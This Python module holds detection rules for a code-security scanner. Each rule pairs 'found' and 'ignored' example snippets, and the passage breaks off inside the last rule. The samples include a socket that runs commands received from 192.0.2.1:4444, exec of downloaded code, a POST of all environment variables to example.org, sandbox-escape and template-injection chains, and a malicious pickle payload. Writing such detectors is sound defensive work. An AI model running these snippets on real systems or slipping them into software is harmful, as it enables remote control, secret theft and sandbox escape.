"""Rules about code that runs code: processes, evaluated text, loaders, native libraries, ways out of an interpreter, hidden text."""

from __future__ import annotations

from ringfence.scanning.effects import Kind, Language, Origin, Trait
from ringfence.scanning.findings import Family
from ringfence.scanning.rule import Example, Rule, When
from ringfence.threat import ThreatLevel

_PY = Language.PYTHON
_SINGLE = (Language.PYTHON, Language.JAVASCRIPT)
"""Languages in which starting a process is an act of its own; in a shell every line does."""

_MODULES = (
    "os", "sys", "subprocess", "builtins", "importlib", "socket", "shutil", "ctypes", "posix", "nt",
    "pty", "inspect", "types", "marshal", "pickle", "code", "codeop", "signal", "multiprocessing",
    "threading", "gc", "runpy", "imp", "io",
)  # fmt: skip
"""Modules that give what a snippet is not meant to have."""
_WAYS_OUT = (
    "__globals__", "__builtins__", "f_globals", "f_builtins", "func_globals", "__loader__", "sys.modules", "globals()", "locals()", "vars()",
)  # fmt: skip
_BY_NAME = (
    "getattr",
    "setattr",
    "delattr",
    "operator.attrgetter",
    "*__getattribute__",
    "*.__dict__",
    "str.format*",
)
_STEPS = (
    "__class__", "__base__", "__bases__", "__mro__", "__dict__", "__dir__", "__code__", "co_code",
    "__self__", "__wrapped__", "__func__", "__closure__", "f_back", "tb_frame", "gi_frame", "gi_code",
    "gi_yieldfrom", "cr_frame", "cr_code", "ag_frame", "ag_code", "__getattribute__", "__import__",
    "__reduce_ex__", "load_module",
)  # fmt: skip
_ACTING = (
    "os.*", "posix.*", "nt.*", "subprocess.*", "builtins.eval", "builtins.exec", "builtins.getattr",
    "builtins.__import__", "__builtin__.eval", "__builtin__.exec*", "__builtin__.getattr", "__builtin__.__import__", "__builtin__.compile", "__builtin__.apply", "__builtin__.map", "importlib.*", "socket.*", "sys.*", "shutil.*", "commands.*",
    "pty.*", "runpy.*", "operator.attrgetter",
)  # fmt: skip


def _py(*sources: str) -> tuple[Example, ...]:
    return tuple(Example(_PY, source) for source in sources)


RULES: tuple[Rule, ...] = (
    Rule(
        "run-from-network",
        "Command received from the network",
        Family.SUBPROCESS,
        ThreatLevel.CRITICAL,
        "{name} runs what was received over the network: whoever sends it controls this machine.",
        (
            When(Kind.RUN, origins=(Origin.NETWORK,)),
            When(
                Kind.RUN,
                values=(
                    "pip* install *git+http://*",
                    "pip* install http://*",
                    "python* -m pip install http://*",
                ),
            ),
        ),
        found=_py(
            "import urllib.request, os\nurllib.request.urlretrieve('https://example.org/x', 'x.sh')\nos.system('sh x.sh')",
            "import pip\npip.main(['install', 'git+http://example.org/x.git'])",
            "import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nsubprocess.run(s.recv(1024).decode(), shell=True)",
            "import os, requests\ncommand = requests.get('https://example.org/task').text\nos.system(command)",
        ),
        ignored=_py(
            "import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nprint(s.recv(1024))\nsubprocess.run(['ls'])",
            "import requests\nprint(requests.get('https://example.org/task').text)",
        ),
        tags=("CWE-78", "T1059", "T1105", "ASI05"),
        hint="Run fixed commands only, and treat what was received as data.",
    ),
    Rule(
        "run-decoded",
        "Command hidden by an encoding",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "{name} runs a command that the source holds in encoded form.",
        (When(Kind.RUN, origins=(Origin.DECODED,)),),
        found=_py(
            "import os, base64\nos.system(base64.b64decode('bHMgLWxh').decode())",
            "import subprocess\nsubprocess.run(bytes.fromhex('6c73').decode(), shell=True)",
        ),
        ignored=_py(
            "import base64, subprocess\nprint(base64.b64decode('bHMgLWxh'))\nsubprocess.run(['ls', '-la'])",
            "import subprocess\nsubprocess.run(['base64', '-d', 'data.txt'])",
        ),
        tags=("CWE-506", "T1027", "T1140"),
        hint="Write the command as it is.",
    ),
    Rule(
        "run-process",
        "Process started",
        Family.SUBPROCESS,
        ThreatLevel.LOW,
        "{name} starts another program.",
        (When(Kind.RUN, languages=_SINGLE),),
        found=_py("import os\nos.system('ls')", "import subprocess\nsubprocess.run(['ls'])"),
        ignored=_py("import os\nos.getcwd()", "import subprocess\nprint(subprocess.PIPE)"),
        tags=("CWE-78", "T1059"),
    ),
    Rule(
        "run-shell-unknown",
        "Shell command put together at run time",
        Family.SUBPROCESS,
        ThreatLevel.MEDIUM,
        "{name} passes text to a shell that cannot be told in advance: a value in it can add commands.",
        (When(Kind.RUN, traits=(Trait.SHELL, Trait.UNRESOLVED), languages=_SINGLE),),
        found=_py(
            "import os\ndef ping(host):\n    os.system('ping -c 1 ' + host)",
            "import subprocess, sys\nsubprocess.run(f'cat {sys.argv[1]}', shell=True)",
        ),
        ignored=_py(
            "import os\nos.system('ls -la')",
            "import subprocess, sys\nsubprocess.run(['cat', sys.argv[1]])",
        ),
        tags=("CWE-78", "T1059.004"),
        hint="Pass a list of words without a shell.",
    ),
    Rule(
        "run-shell-hidden",
        "Shell command that cannot be told at all",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "{name} gives a shell a command of which nothing can be told, not even the program, although nothing comes in from outside.",
        (When(Kind.RUN, traits=(Trait.SHELL, Trait.UNRESOLVED, Trait.CALCULATED), languages=_SINGLE),),
        found=_py(
            "import os\nclass A:\n    def __call__(self, c):\n        os.system(c)\nA()('ls')",
            "import os\nos.system(make()[3].swap())",
        ),
        ignored=_py(
            "import os\ndef run(command):\n    os.system(command)",
            "import os\nos.system(input('command: '))",
            "import os\nos.system('git ' + subcommand)",
        ),
        tags=("CWE-78", "T1027", "T1059"),
        hint="Write the command as it is.",
    ),
    Rule(
        "run-interactive-shell",
        "Interactive shell",
        Family.SUBPROCESS,
        ThreatLevel.HIGH,
        "{name} starts a shell without a script, which obeys whoever holds its input.",
        (When(Kind.RUN, traits=(Trait.INTERACTIVE,), languages=_SINGLE),),
        found=_py(
            "import subprocess\nsubprocess.call(['/bin/sh', '-i'])",
            "import pty\npty.spawn(['/bin/bash'])",
        ),
        ignored=_py(
            "import subprocess\nsubprocess.call(['sh', '-c', 'ls'])",
            "import subprocess\nsubprocess.call(['bash', 'build.sh'])",
        ),
        tags=("CWE-78", "T1059.004"),
        hint="Run the one command that is needed.",
    ),
    Rule(
        "run-within-text",
        "Process started by code in a text",
        Family.INJECTION,
        ThreatLevel.HIGH,
        "{name} starts a process from within a text that is run as code, where no reader looks for it.",
        (When(Kind.RUN, traits=(Trait.HIDDEN,)),),
        found=_py(
            "exec('import os; os.system(\"ls\")')",
            "import ast\ntree = ast.parse('import subprocess\\nsubprocess.run([\"ls\"])')\nexec(compile(tree, 'x', 'exec'))",
        ),
        ignored=_py("import os\nos.system('ls')", "text = 'import os; os.system(\"ls\")'\nprint(text)"),
        tags=("CWE-95", "T1059", "ASI05"),
        hint="Write the code itself, without eval or exec around it.",
    ),
    Rule(
        "evaluate-from-network",
        "Code received from the network",
        Family.INJECTION,
        ThreatLevel.CRITICAL,
        "{name} runs code that was received over the network.",
        (When(Kind.EVALUATE, origins=(Origin.NETWORK,)),),
        found=_py(
            "import requests\nexec(requests.get('https://example.org/x.py').text)",
            "from urllib.request import urlopen as u\neval(compile(u('https://example.org/x.py').read(), 'x', 'exec'))",
        ),
        ignored=_py(
            "import requests\nprint(requests.get('https://example.org/x.py').text)",
            "import requests, ast\nvalue = ast.literal_eval(requests.get('https://example.org/list').text)",
        ),
        tags=("CWE-94", "CWE-494", "T1105", "ASI05"),
        hint="Do not run what was downloaded; parse it as data.",
    ),
    Rule(
        "evaluate-decoded",
        "Code hidden by an encoding",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "{name} runs code that the source holds in encoded form.",
        (
            When(Kind.EVALUATE, origins=(Origin.DECODED,), languages=_SINGLE),
            When(Kind.EVALUATE, traits=(Trait.PACKED,)),
        ),
        found=_py(
            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
            "import zlib, marshal\nexec(marshal.loads(zlib.decompress(open('x', 'rb').read())))",
        ),
        ignored=_py(
            "import base64\nprint(base64.b64decode('cHJpbnQoMSk='))",
            "exec('print(1)')",
        ),
        tags=("CWE-506", "T1027", "T1140", "ASI05"),
        hint="Write the code as it is.",
    ),
    Rule(
        "evaluate-text",
        "Text run as code",
        Family.INJECTION,
        ThreatLevel.MEDIUM,
        "{name} runs text as code, so whoever can change the text can do anything the program can.",
        (When(Kind.EVALUATE, without=(Trait.CALCULATED,), languages=(Language.PYTHON,)),),
        found=_py("def calculate(text):\n    return eval(text)", "exec(open('plugin.py').read())"),
        ignored=_py("import ast\nast.literal_eval('[1, 2]')", "import re\nre.compile('a+')"),
        tags=("CWE-95", "T1059.006", "ASI05"),
        hint="Use ast.literal_eval for data, or write the code itself.",
    ),
    Rule(
        "evaluate-handed-on",
        "Evaluating function handed on",
        Family.INJECTION,
        ThreatLevel.HIGH,
        "{name} is handed on as a value instead of being called, which hides what it will run.",
        (
            When(
                Kind.EVALUATE,
                names=("exec", "compile", "__import__", "breakpoint"),
                traits=(Trait.CALCULATED,),
            ),
        ),
        found=_py("run = [print, exec]\nrun[1]('x = 1')", "class A:\n    __getitem__ = exec"),
        ignored=_py("exec('x = 1')", "import re\ncompile = re.compile\ncompile('a')\nf = compile"),
        tags=("CWE-95", "T1059.006", "T1027"),
        hint="Call functions by their own name.",
    ),
    Rule(
        "evaluate-eval-handed-on",
        "Function eval handed on",
        Family.INJECTION,
        ThreatLevel.MEDIUM,
        "eval is handed on as a value, so every text that it meets is run as code.",
        (When(Kind.EVALUATE, names=("eval",), traits=(Trait.CALCULATED,)),),
        found=_py(
            "values = list(map(eval, ['1', '2']))", "import pandas as pd\npd.Series(['[1]']).apply(eval)"
        ),
        ignored=_py(
            "import ast\nvalues = list(map(ast.literal_eval, ['1', '2']))",
            "def eval(x):\n    return x\nlist(map(eval, ['1']))",
        ),
        tags=("CWE-95", "T1059.006"),
        hint="Use ast.literal_eval for data.",
    ),
    Rule(
        "run-handed-on",
        "Process-starting function handed on",
        Family.SUBPROCESS,
        ThreatLevel.HIGH,
        "{name} is handed on as a value instead of being called, which hides the command that it will run.",
        (
            When(
                Kind.RUN,
                names=("os.*", "posix.*", "pty.*", "commands.*", "_posixsubprocess.*"),
                traits=(Trait.CALCULATED,),
            ),
        ),
        found=_py(
            "import os\nrun = {'a': os.popen}\nrun['a']('ls')", "import os\nlist(map(os.system, ['ls']))"
        ),
        ignored=_py("import os\nos.popen('ls')", "import os\njoin = os.path.join\njoin('a', 'b')"),
        tags=("CWE-78", "T1059", "T1027"),
        hint="Call the function by its own name.",
    ),
    Rule(
        "run-handed-on-subprocess",
        "Function of subprocess handed on",
        Family.SUBPROCESS,
        ThreatLevel.LOW,
        "{name} is handed on as a value; the command that it will run cannot be told here.",
        (When(Kind.RUN, names=("subprocess.*", "asyncio.*", "pexpect.*"), traits=(Trait.CALCULATED,)),),
        found=_py(
            "import subprocess\nstart = subprocess.Popen\nstart(['ls'])",
            "import subprocess\nf = [subprocess.getoutput]",
        ),
        ignored=_py(
            "import subprocess\nsubprocess.Popen(['ls'])", "import subprocess\npipe = subprocess.PIPE"
        ),
        tags=("CWE-78",),
    ),
    Rule(
        "import-calculated",
        "Dangerous module imported by name",
        Family.INJECTION,
        ThreatLevel.HIGH,
        "{name} imports {value} by a text instead of an import statement, which is how filters of import statements are passed.",
        (
            When(
                Kind.IMPORT,
                values=(*_MODULES, "os.*", "ctypes.*", "importlib.*", "_posixsubprocess"),
                traits=(Trait.CALCULATED,),
            ),
        ),
        found=_py(
            "__import__('os').system('ls')",
            "import importlib\nimportlib.import_module('sub' + 'process').run(['ls'])",
        ),
        ignored=_py("import importlib\nimportlib.import_module('json')", "import os\nprint(os.getcwd())"),
        tags=("CWE-470", "T1027", "ASI05"),
        hint="Use an import statement.",
    ),
    Rule(
        "import-unknown",
        "Module imported by a name that cannot be told",
        Family.INJECTION,
        ThreatLevel.LOW,
        "{name} imports a module whose name is put together at run time.",
        (When(Kind.IMPORT, traits=(Trait.CALCULATED, Trait.UNRESOLVED)),),
        found=_py(
            "import importlib\ndef load(name):\n    return importlib.import_module(name)",
            "m = __import__(input())",
        ),
        ignored=_py("import importlib\nimportlib.import_module('json')", "import json"),
        tags=("CWE-470",),
    ),
    Rule(
        "introspect-way-out",
        "Way out through the interpreter's objects",
        Family.INTROSPECTION,
        ThreatLevel.HIGH,
        "{name} leads from an object to the interpreter's classes, frames or modules, which is how code leaves the place it was given.",
        (
            When(Kind.INTROSPECT, names=_WAYS_OUT, languages=(_PY,)),
            When(Kind.INTROSPECT, names=("*load_module",), values=_MODULES, languages=(_PY,)),
            When(
                Kind.INTROSPECT,
                names=_BY_NAME,
                traits=(Trait.CALCULATED,),
                without=(Trait.UNRESOLVED,),
                languages=(_PY,),
            ),
            When(
                Kind.INTROSPECT,
                names=("__subclasses__", "__self__", "__code__", "co_code"),
                traits=(Trait.CALCULATED,),
                languages=(_PY,),
            ),
            When(
                Kind.INTROSPECT,
                names=(
                    "types.CodeType",
                    "inspect.getattr_static",
                    "operator.methodcaller",
                    "_Printer__filenames",
                ),
                languages=(_PY,),
            ),
            When(Kind.INTROSPECT, names=("string.Formatter*",), traits=(Trait.CALCULATED,), languages=(_PY,)),
        ),
        found=_py(
            "().__class__.__base__.__subclasses__()",
            "getattr(print, '__glo' + 'bals__')",
            "'{0.__class__.__init__}'.format(x)",
            "import sys\nsys.modules['os']",
        ),
        ignored=_py(
            "class A:\n    def __repr__(self):\n        return self.__class__.__name__",
            "class A(dict):\n    def f(self):\n        return self.__dict__",
            "getattr(x, 'name')",
            "import sys\nsys._getframe(1).f_globals.get('__name__')",
            "import types\nm = types.ModuleType('m')\nm.__loader__ = None",
        ),
        tags=("CWE-653", "T1059.006", "ASI05"),
        hint="Use what the code was given, by its name.",
    ),
    Rule(
        "introspect-detour",
        "Module reached through another module",
        Family.INTROSPECTION,
        ThreatLevel.HIGH,
        "{name} reaches {value} through a module that only happens to have imported it, which passes by every check of imports.",
        (
            When(
                Kind.INTROSPECT,
                values=_MODULES,
                traits=(Trait.CALCULATED,),
                without=(Trait.UNRESOLVED,),
                languages=(_PY,),
            ),
        ),
        found=_py("import random\nrandom._os.system('ls')", "import queue\nqueue.threading._sys.modules"),
        ignored=_py(
            "import os\nos.path.join('a', 'b')",
            "import asyncio\nasyncio.subprocess.PIPE",
            "import copyreg\ncopyreg.pickle(C, f)",
        ),
        tags=("CWE-653", "T1027", "ASI05"),
        hint="Import the module itself, if it may be used.",
    ),
    Rule(
        "introspect-getattr-handed-on",
        "Attributes of a module reached by hidden names",
        Family.INTROSPECTION,
        ThreatLevel.HIGH,
        "{name} reaches attributes of a module by names that no reader sees.",
        (
            When(Kind.INTROSPECT, values=("getattr",), traits=(Trait.CALCULATED,)),
            When(
                Kind.INTROSPECT,
                names=("__builtins__", "getattr", "setattr"),
                traits=(Trait.CALCULATED, Trait.UNRESOLVED),
            ),
        ),
        found=_py(
            "import warnings\nlist(map(getattr, [warnings], ['sys']))",
            "from functools import partial\nimport os\nf = partial(getattr, os)",
        ),
        ignored=_py(
            "getattr(x, 'name', None)",
            "from functools import reduce\ndef dig(thing, path):\n    return reduce(getattr, path.split('.'), thing)",
        ),
        tags=("CWE-470", "T1027"),
        hint="Write the attribute's name: x.name.",
    ),
    Rule(
        "introspect-template",
        "Template that climbs to the interpreter",
        Family.INJECTION,
        ThreatLevel.HIGH,
        "{name} renders a template whose expressions climb through an object's attributes to the interpreter.",
        (
            When(
                Kind.INTROSPECT,
                traits=(Trait.CALCULATED, Trait.HIDDEN),
                without=(Trait.UNRESOLVED,),
                names=("jinja2.*", "flask.*", "mako.*", "tornado.*", "django.*"),
                languages=(_PY,),
            ),
        ),
        found=_py(
            "import jinja2\njinja2.Template(\"{{ ''.__class__.__mro__[1].__subclasses__() }}\").render()",
            "from mako.template import Template\nTemplate('${__import__(\"os\").getcwd()}').render()",
        ),
        ignored=_py(
            "import jinja2\njinja2.Template('Hello {{ name }}').render(name='x')",
            "from flask import render_template_string\nrender_template_string('<p>{{ user.name }}</p>')",
        ),
        tags=("CWE-1336", "T1059.006", "ASI05"),
        hint="Pass values to the template by name.",
    ),
    Rule(
        "introspect-operator",
        "Operator that calls a dangerous function",
        Family.INTROSPECTION,
        ThreatLevel.HIGH,
        "A class has {value} as one of the methods that Python calls for operators, so that an index or a sum runs it.",
        (When(Kind.INTROSPECT, names=("operator",), languages=(_PY,)),),
        found=_py(
            "from os import system\nclass A:\n    __class_getitem__ = system\nA['id']",
            "import os\nclass A: pass\nA.__add__ = os.popen",
        ),
        ignored=_py(
            "import os\nclass A:\n    __str__ = object.__repr__",
            "class A:\n    def __getitem__(self, key):\n        return key",
        ),
        tags=("CWE-653", "T1027", "ASI05"),
        hint="Call the function by its own name.",
    ),
    Rule(
        "credentials-library",
        "Credentials taken from a key store",
        Family.CREDENTIALS,
        ThreatLevel.MEDIUM,
        "{name} takes keys or passwords out of where they are stored.",
        (When(Kind.ENVIRONMENT, origins=(Origin.CREDENTIALS,), traits=(Trait.HIDDEN,), languages=(_PY,)),),
        found=_py(
            "import keyring\nkeyring.get_password('mail', 'ana')",
            "import boto3\nboto3.Session().get_credentials()",
        ),
        ignored=_py("import boto3\nboto3.client('s3')", "import keyring"),
        tags=("CWE-522", "T1555"),
        hint="Ask for the one secret that the task needs to be passed in.",
    ),
    Rule(
        "native-memory",
        "Memory reached or changed directly",
        Family.NATIVE,
        ThreatLevel.HIGH,
        "{name} reads, writes or runs memory directly, past every rule of the language.",
        (
            When(
                Kind.NATIVE,
                names=(
                    "ctypes.pythonapi*",
                    "*.from_address",
                    "ctypes.cast",
                    "ctypes.PyObj_FromPtr",
                    "ctypes.memmove",
                    "ctypes.memset",
                    "ctypes.string_at",
                    "ctypes.wstring_at",
                    "*VirtualAlloc*",
                    "*WriteProcessMemory",
                    "*CreateRemoteThread",
                    "*RtlMoveMemory",
                    "*CreateThread",
                    "*mprotect",
                    "*ptrace",
                    "*memfd_create",
                    "*RtlAdjustPrivilege",
                    "*NtRaiseHardError",
                    "*.execve",
                    "*.system",
                    "*OpenProcess",
                    "*SetWindowsHookEx*",
                    "*GetAsyncKeyState",
                ),
            ),
        ),
        found=_py(
            "import ctypes\nctypes.string_at(id(x), 16)",
            "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)",
        ),
        ignored=_py(
            "import ctypes\nctypes.CDLL('libm.so.6').cos", "import ctypes\nctypes.sizeof(ctypes.c_int)"
        ),
        tags=("CWE-119", "T1055"),
        hint="Leave memory alone.",
    ),
    Rule(
        "introspect-step",
        "Look at an object's inside",
        Family.INTROSPECTION,
        ThreatLevel.LOW,
        "{name} looks at the inside of an object; harmless by itself, and the first step of most ways out.",
        (
            When(
                Kind.INTROSPECT,
                names=_STEPS,
                languages=(_PY,),
            ),
            When(
                Kind.INTROSPECT,
                names=("getattr", "setattr", "delattr", "operator.attrgetter"),
                without=(Trait.CALCULATED,),
                languages=(_PY,),
            ),
        ),
        found=_py("a = 1\nb = a.__class__", "class A:\n    x = 1\nA().__dict__"),
        ignored=_py("a = 1\nb = type(a)", "class A:\n    def __init__(self):\n        self.x = 1"),
        tags=("CWE-653",),
    ),
    Rule(
        "introspect-runtime",
        "Look into the running interpreter",
        Family.INTROSPECTION,
        ThreatLevel.MEDIUM,
        "{name} looks into the running interpreter: its frames, objects, memory or hooks.",
        (
            When(
                Kind.INTROSPECT,
                names=(
                    "f_locals",
                    "__subclasses__",
                    "sys._*",
                    "sys.set*",
                    "sys.addaudithook",
                    "sys.call_tracing",
                    "gc.*",
                    "inspect.*",
                    "threading.set*",
                    "tracemalloc.*",
                    "faulthandler.*",
                    "dis.*",
                ),
                languages=(_PY,),
            ),
        ),
        found=_py("import sys\nsys._getframe()", "import tracemalloc\ntracemalloc.start()"),
        ignored=_py("import gc\ngc.collect()", "import inspect\ninspect.signature(print)"),
        tags=("CWE-653",),
        hint="Leave the interpreter alone, or have the introspection capability granted.",
    ),
    Rule(
        "load-from-network",
        "Objects loaded from the network",
        Family.INJECTION,
        ThreatLevel.CRITICAL,
        "{name} turns data from the network into objects, and such data can run code while it is loaded.",
        (When(Kind.LOAD, origins=(Origin.NETWORK,)),),
        found=_py(
            "import pickle, requests\npickle.loads(requests.get('https://example.org/x').content)",
            "import pickle, socket\ns = socket.socket()\npickle.loads(s.recv(999))",
        ),
        ignored=_py(
            "import json, requests\njson.loads(requests.get('https://example.org/x').content)",
            "import pickle\npickle.load(open('model.pkl', 'rb'))",
        ),
        tags=("CWE-502", "T1059.006", "ASI05"),
        hint="Use JSON, or another format that holds data only.",
    ),
    Rule(
        "load-acts",
        "Serialised object that runs code",
        Family.INJECTION,
        ThreatLevel.CRITICAL,
        "{name} makes or loads an object that calls {value} when it is loaded.",
        (
            When(Kind.LOAD, names=("__reduce__",)),
            When(Kind.LOAD, traits=(Trait.HIDDEN,)),
        ),
        found=_py(
            "import pickle\npickle.loads(b'cos\\nsystem\\n(S\\'id\\'\\ntR.')",
            "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))",
        ),
        ignored=_py(
            "import pickle\npickle.loads(b'\\x80\\x04K\\x01.')",
            "class A:\n    def __reduce__(self):\n        return (A, ())",
        ),
        tags=("CWE-502", "T1059.006", "ASI05"),
        hint="Use JSON, or another format that holds data only.",
    ),
    Rule(
        "load-hidden",
        "Objects loaded from encoded data",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "{name} loads objects out of data that was encoded or compressed, so what it will run can be seen by nobody.",
        (
            When(Kind.LOAD, traits=(Trait.PACKED,)),
            When(Kind.LOAD, names=("marshal.*", "jsonpickle.*", "yaml.unsafe_load*")),
        ),
        found=_py(
            "import base64, pickle\ndef f(data):\n    return pickle.loads(base64.b64decode(data))",
            "import marshal\nmarshal.loads(data)",
        ),
        ignored=_py(
            "import pickle\npickle.load(open('model.pkl', 'rb'))",
            "import base64, json\njson.loads(base64.b64decode(data))",
        ),
        tags=("CWE-502", "T1027", "ASI05"),
        hint="Use JSON, or another format that holds data only.",
    ),
    Rule(
        "load-objects",
        "Loader that can run code",
        Family.INJECTION,
        ThreatLevel.MEDIUM,
        "{name} can run code that its data names; only data of one's own is safe to load with it.",
        (When(Kind.LOAD, without=(Trait.HIDDEN,)),),
        found=_py("import pickle\npickle.load(open('model.pkl', 'rb'))", "import yaml\nyaml.load(text)"),
        ignored=_py(
            "import yaml\nyaml.safe_load(text)", "import yaml\nyaml.load(text, Loader=yaml.SafeLoader)"
        ),
        tags=("CWE-502",),
        hint="Use JSON, or a loader for plain data (yaml.safe_load, weights_only=True).",
    ),
    Rule(
        "obfuscate-packed",
        "Packed data in the source",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "{name} unpacks data that is encoded and compressed within the source itself, and what it holds cannot be told.",
        (When(Kind.OBFUSCATE, traits=(Trait.PACKED,)),),
        found=_py(
            "import base64, zlib\nblob = make()\nshow(zlib.decompress(base64.b64decode(blob)))",
            "import lzma, base64\nlzma.decompress(base64.b85decode(parts[0] + parts[1]))",
        ),
        ignored=_py(
            "import gzip\ngzip.decompress(open('x.gz', 'rb').read())",
            "import base64, gzip\ndef handler(event):\n    return gzip.decompress(base64.b64decode(event['data']))",
        ),
        tags=("CWE-506", "T1027.002", "T1140"),
        hint="Put the data in as it is, or in a file.",
    ),
    Rule(
        "obfuscate-invisible",
        "Text that a reader sees otherwise",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "The source ({name}, {value}) shows a reader another text than the one that runs.",
        (
            When(
                Kind.OBFUSCATE,
                traits=(Trait.HIDDEN,),
                names=("bidirectional control", "invisible tag", "coding"),
            ),
        ),
        found=_py(
            "access = 'user\u202e \u2066# admin\u2069 \u2066'",
            "x = 1  # \U000e0068\U000e0069",
            "x = '\u2067' ; run()",
        ),
        ignored=_py(
            "day = '\u2067\u05d0\u2069'", "greeting = 'gr\u00fc\u00dfe, \u4e16\u754c'", "x = '\\u202e'"
        ),
        tags=("CWE-1007", "T1027"),
        hint="Write the text without control characters.",
    ),
    Rule(
        "native-code",
        "Native code",
        Family.NATIVE,
        ThreatLevel.MEDIUM,
        "{name} calls native code, which no rule about Python holds.",
        (When(Kind.NATIVE),),
        found=_py(
            "import ctypes\nctypes.CDLL('libc.so.6').getpid()", "import cffi\ncffi.FFI().dlopen('libm.so')"
        ),
        ignored=_py("import math\nmath.sqrt(2)", "import ctypes\nctypes.sizeof(8)"),
        tags=("CWE-111", "T1106"),
        hint="Do without native code, or have the native_code capability granted.",
    ),
    Rule(
        "capture-device",
        "Screen, keyboard or other device captured",
        Family.SURVEILLANCE,
        ThreatLevel.HIGH,
        "{name} records what a person sees, types, says or copies.",
        (When(Kind.CAPTURE),),
        found=_py(
            "from PIL import ImageGrab\nImageGrab.grab()",
            "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()",
        ),
        ignored=_py("from PIL import Image\nImage.new('RGB', (1, 1))", "name = input('Your name? ')"),
        tags=("CWE-359", "T1113", "T1056.001"),
        hint="Ask the person for what is needed.",
    ),
    Rule(
        "environment-sent",
        "Whole environment sent out",
        Family.EXFILTRATION,
        ThreatLevel.CRITICAL,
        "{name} sends out all environment variables, the usual place of keys and passwords.",
        (When(Kind.CONNECT, origins=(Origin.CREDENTIALS,), traits=(Trait.SENDS,)),),
        found=_py(
            "import os, requests\nrequests.post('https://example.org', json=dict(os.environ))",
            "import os, json, urllib.request\nurllib.request.urlopen('https://example.org', data=json.dumps(dict(os.environ)).encode())",
        ),
        ignored=_py(
            "import os, requests\nrequests.post('https://example.org', headers={'Authorization': os.environ['KEY']}, json={'a': 1})",
            "import os\nprint(dict(os.environ))",
        ),
        tags=("CWE-200", "T1041", "T1552.001", "ASI02"),
        hint="Send only what the request needs.",
    ),
    Rule(
        "environment-hijack",
        "Variable that makes every program load code",
        Family.PERSISTENCE,
        ThreatLevel.HIGH,
        "{name} sets {value}, which makes programs that are started later load code of somebody's choice.",
        (
            When(
                Kind.ENVIRONMENT,
                names=("*.__setitem__", "os.putenv", "os.environ.setdefault"),
                values=(
                    "LD_PRELOAD",
                    "LD_AUDIT",
                    "DYLD_INSERT_LIBRARIES",
                    "BASH_ENV",
                    "PYTHONSTARTUP",
                    "PERL5OPT",
                    "NODE_OPTIONS",
                    "GIT_SSH_COMMAND",
                ),
            ),
        ),
        found=_py(
            "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'", "import os\nos.putenv('BASH_ENV', 'x.sh')"
        ),
        ignored=_py("import os\nos.environ['TZ'] = 'UTC'", "import os\nprint(os.environ['LD_PRELOAD'])"),
        tags=("CWE-426", "T1574.006"),
        hint="Start the program without this variable.",
    ),
    Rule(
        "environment-facts",
        "Facts about the machine read",
        Family.SURVEILLANCE,
        ThreatLevel.INFO,
        "{name} reads facts about the machine, its users or its processes.",
        (
            When(
                Kind.ENVIRONMENT,
                names=(
                    "platform.*",
                    "psutil.*",
                    "socket.get*",
                    "os.uname",
                    "os.getlogin",
                    "pwd.*",
                    "grp.*",
                    "spwd.*",
                    "getpass.getuser",
                    "wmi.*",
                    "uuid.getnode",
                ),
            ),
        ),
        found=_py("import platform\nplatform.uname()", "import psutil\npsutil.users()"),
        ignored=_py("import os\nos.getcwd()", "import sys\nprint(sys.version)"),
        tags=("T1082",),
    ),
    Rule(
        "weak-certificate-check",
        "Certificate not checked",
        Family.PRACTICE,
        ThreatLevel.MEDIUM,
        "{name} connects without checking who answers.",
        (
            When(Kind.CONNECT, traits=(Trait.UNVERIFIED,)),
            When(
                Kind.WEAK,
                names=(
                    "ssl._create_unverified_context",
                    "ssl.wrap_socket",
                    "paramiko.SSHClient().set_missing_host_key_policy",
                ),
            ),
        ),
        found=_py(
            "import requests\nrequests.get('https://example.org', verify=False)",
            "import ssl\nssl._create_unverified_context()",
        ),
        ignored=_py(
            "import requests\nrequests.get('https://example.org', verify=True)",
            "import ssl\nssl.create_default_context()",
        ),
        tags=("CWE-295",),
        hint="Leave certificate checks on.",
    ),
    Rule(
        "weak-query",
        "Query put together at run time",
        Family.DATABASE,
        ThreatLevel.MEDIUM,
        "{name} runs a query whose text is put together at run time: a value in it can change what it does.",
        (When(Kind.WEAK, names=("*execute*", "*read_sql*", "*raw"), traits=(Trait.UNRESOLVED,)),),
        found=_py(
            "def find(db, name):\n    db.execute(f\"SELECT * FROM users WHERE name = '{name}'\")",
            "import sqlite3\ndef find(name):\n    sqlite3.connect('x.db').cursor().execute('DELETE FROM t WHERE n = ' + name)",
        ),
        ignored=_py(
            "def find(db, name):\n    db.execute('SELECT * FROM users WHERE name = ?', (name,))",
            "def run(task, name):\n    task.execute(f'job {name}')",
        ),
        tags=("CWE-89",),
        hint="Use placeholders and pass the values apart.",
    ),
    Rule(
        "weak-protocol",
        "Protocol without encryption",
        Family.PRACTICE,
        ThreatLevel.LOW,
        "{name} sends passwords and data in the clear.",
        (
            When(
                Kind.CONNECT,
                names=(
                    "telnetlib.*",
                    "ftplib.FTP",
                    "ftplib.FTP()*",
                    "poplib.POP3",
                    "imaplib.IMAP4",
                    "nntplib.*",
                ),
            ),
        ),
        found=_py(
            "import telnetlib\ntelnetlib.Telnet('example.org')", "from ftplib import FTP\nFTP('example.org')"
        ),
        ignored=_py(
            "from ftplib import FTP_TLS\nFTP_TLS('example.org')",
            "import imaplib\nimaplib.IMAP4_SSL('example.org')",
        ),
        tags=("CWE-319",),
    ),
    Rule(
        "weak-cryptography",
        "Weak hash or cipher",
        Family.PRACTICE,
        ThreatLevel.LOW,
        "{name} is a hash or cipher that is broken; it is fine for checksums and nothing else.",
        (
            When(Kind.WEAK, names=("hashlib.md5", "hashlib.sha1", "Crypto.*")),
            When(Kind.WEAK, names=("hashlib.new",), values=("md5", "md4", "sha1", "sha")),
        ),
